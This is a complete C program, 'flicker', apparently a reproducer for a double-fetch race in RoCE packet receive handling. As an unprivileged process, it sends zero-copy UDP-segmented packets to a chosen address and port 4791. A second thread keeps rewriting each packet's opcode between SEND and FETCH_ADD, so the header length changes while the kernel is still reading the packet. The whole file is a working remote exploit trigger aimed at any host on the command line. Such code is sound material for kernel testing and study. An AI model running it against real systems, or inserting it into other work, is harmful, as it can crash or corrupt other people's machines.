// SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
/*
 * flicker - a stranger's packets whose opcodes change while they are being received
 *
 * usage: flicker ADDRESS SECONDS
 *
 * Many packets as one buffer (UDP_SEGMENT) of pages that stay this process's (vmsplice), so that
 * the length of a packet's headers differs from one look at the opcode to the next.
 */
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096
#define PACKET 64
#define ROCE_PORT 4791
#ifndef SOL_UDP
#define SOL_UDP 17
#endif
#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

/* RC SEND only, and RC FETCH_ADD, whose headers are longer by 28 bytes */
static const unsigned char opcodes[] = { 0x04, 0x14 };
static volatile unsigned char *page;

static void *change(void *arg)
{
	unsigned int n, i;

	for (n = 0;; n++)
		for (i = 0; i < PAGE; i += PACKET)
			page[i] = opcodes[n % 2];
	return arg;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(ROCE_PORT) };
	struct iovec piece = { .iov_len = PAGE };
	int fd, ends[2], size = PACKET, sent = 0;
	pthread_t thread;
	time_t end;

	if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		errx(2, "usage: flicker ADDRESS SECONDS");
	end = time(NULL) + atoi(argv[2]);
	if (setgid(65534) || setuid(65534))
		err(1, "setuid");
	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		err(1, "mmap");
	piece.iov_base = (void *)page;
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) || pipe(ends))
		err(1, "socket");
	if (setsockopt(fd, SOL_UDP, UDP_SEGMENT, &size, sizeof(size)))
		err(1, "UDP_SEGMENT");
	if (pthread_create(&thread, NULL, change, NULL))
		errx(1, "no thread");
	for (; time(NULL) < end; sent++) {
		if (vmsplice(ends[1], &piece, 1, 0) != PAGE)
			err(1, "vmsplice");
		if (splice(ends[0], NULL, fd, NULL, PAGE, 0) != PAGE)
			err(1, "splice");
	}
	return sent ? 0 : 1;
}
